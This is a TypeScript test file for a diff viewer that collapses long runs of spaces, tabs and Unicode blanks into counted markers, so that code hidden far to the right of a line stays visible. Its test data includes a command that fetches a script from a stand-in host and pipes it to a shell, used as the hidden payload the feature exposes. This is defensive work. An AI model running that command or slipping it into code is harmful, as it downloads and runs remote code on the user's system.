// A diff preview shows one line per row and clips what is wider than its box: a long run of blanks inside a line
// must not push the code after it out of sight ("+const a = 1;" then 300 spaces then "require(…).exec(…)").
import * as assert from "node:assert/strict";
import {
  describeCharacter,
  DIFF_LINE_HIDDEN,
  PATH_HIDDEN,
  visibleText,
} from "../../webview/hiddenCharacters";

const SHELL = "require('child_process').exec('curl evil|sh')";

describe("blank runs in a diff line", () => {
  it("draws 16 or more blanks after the line's first character of code as one marker that counts them", () => {
    assert.equal(
      visibleText(`+const a = 1;${" ".repeat(300)}${SHELL}`, DIFF_LINE_HIDDEN),
      `+const a = 1;·×300${SHELL}`,
    );
    assert.equal(visibleText(`x${"\t".repeat(16)}y`, DIFF_LINE_HIDDEN), "x→×16y");
    // Unicode spaces, the Braille blank, and the variation selectors drawn as nothing between them.
    const mixed = ` \t\u00a0\u2003\u3000\u2800\u202f\u205f\u1680\u2000\u200a\ufe0f  \u180b  \ufe00 `;
    assert.equal(visibleText(`a = 1;${mixed}b()`, DIFF_LINE_HIDDEN), "a = 1;·×16b()");
  });

  it("counts a tab or a wide space as four columns: a few tabs may not push code out either", () => {
    assert.equal(visibleText(`+a;${"\t".repeat(4)}b()`, DIFF_LINE_HIDDEN), "+a;→×4b()");
    assert.equal(visibleText(`+a;\t\t\t    b()`, DIFF_LINE_HIDDEN), "+a;·×7b()");
    assert.equal(visibleText(`+a;${"\u3000".repeat(5)}b()`, DIFF_LINE_HIDDEN), "+a;·×5b()");
    for (const line of ["+#define FLAG\t\t0x1", "+a;\t\t\t   b()", `+a;\t${" ".repeat(11)}b()`])
      assert.equal(visibleText(line, DIFF_LINE_HIDDEN), line);
  });

  it("draws indentation 48 columns deep or more before code as one marker, after the diff's own prefix", () => {
    assert.equal(visibleText(`+${" ".repeat(300)}${SHELL}`, DIFF_LINE_HIDDEN), `+·×300${SHELL}`);
    assert.equal(visibleText(`+${"\u00a0".repeat(60)}${SHELL}`, DIFF_LINE_HIDDEN), `+·×60${SHELL}`);
    assert.equal(visibleText(`-${"\t".repeat(20)}return x;`, DIFF_LINE_HIDDEN), "-→×20return x;");
    assert.equal(visibleText(` ${" ".repeat(48)}x`, DIFF_LINE_HIDDEN), " ·×48x");
    assert.equal(visibleText(`+${"\t".repeat(12)}x`, DIFF_LINE_HIDDEN), "+→×12x");
  });

  it("keeps indentation, a diff's own prefix before it, and shorter runs as they are", () => {
    for (const line of [
      `+${" ".repeat(40)}return x;`,
      `+${" ".repeat(47)}return x;`,
      `-${"\t".repeat(11)}return x;`,
      ` ${" ".repeat(40)}return x;`,
      `${" ".repeat(40)}return x;`,
      `const table = [1,${" ".repeat(15)}2];`,
      `+${" ".repeat(300)}`,
    ])
      assert.equal(visibleText(line, DIFF_LINE_HIDDEN), line);
  });

  it("still marks every hidden character beside the runs, and after one a run is inside the line", () => {
    assert.equal(visibleText(`x\u202e${" ".repeat(20)}\u200by`, DIFF_LINE_HIDDEN), "x<U+202E>·×20<U+200B>y");
    assert.equal(visibleText(`+a;\ufeff${" ".repeat(20)}b`, DIFF_LINE_HIDDEN), "+a;<U+FEFF>·×20b");
    assert.equal(visibleText(`+a;\ufe0f${" ".repeat(20)}b`, DIFF_LINE_HIDDEN), "+a;\ufe0f·×20b");
  });

  it("says in the marker's title how many blanks of which kinds it stands for", () => {
    const title = (run: string) => describeCharacter(run);
    assert.equal(
      title(" ".repeat(300)),
      "300 spaces in a row, shown as one mark so that what follows is in view",
    );
    assert.match(title("\t".repeat(4)), /^4 tabs in a row/);
    assert.match(
      title(` \t\u00a0${"\u3000".repeat(13)}`),
      /^16 blank characters \(space, tab, U\+00A0, U\+3000\) in a row/,
    );
  });

  it("leaves a path's lone tab its own marker", () => {
    assert.equal(visibleText("a\tb", PATH_HIDDEN), "a\u2409b");
  });
});
